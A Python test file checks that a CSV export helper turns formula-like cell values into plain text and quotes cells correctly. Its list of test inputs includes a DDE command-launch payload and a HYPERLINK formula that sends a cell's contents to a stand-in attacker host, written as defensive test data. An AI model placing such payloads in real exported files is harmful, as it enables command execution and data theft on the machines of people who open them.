"""F2: a CSV of ours is text to every spreadsheet."""

import csv
import io

import pytest

from foundation.spreadsheets import csv_lines, harmless

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\tplain",
    "\r=1",
    "\n=1",
    "\0=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1',
    "'=1",
    " =1",
    "\u200b=1",
    "\ufeff=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_F2_what_would_run_is_made_text_and_loses_nothing(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Ada", "ada@example.com", "2026-11-25", "a=b", "Müller – Söhne", "“quoted”"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_cells_survive_commas_quotes_semicolons_and_line_breaks() -> None:
    row = ["a,b", 'say "hi"', "x;=1", "two\nlines", "ü"]

    written = csv_lines([row, row])

    assert list(csv.reader(io.StringIO(written, newline=""))) == [row, row]
    assert written.count("\r\n") == 2
    assert written.startswith('"a,b","say ""hi"""')
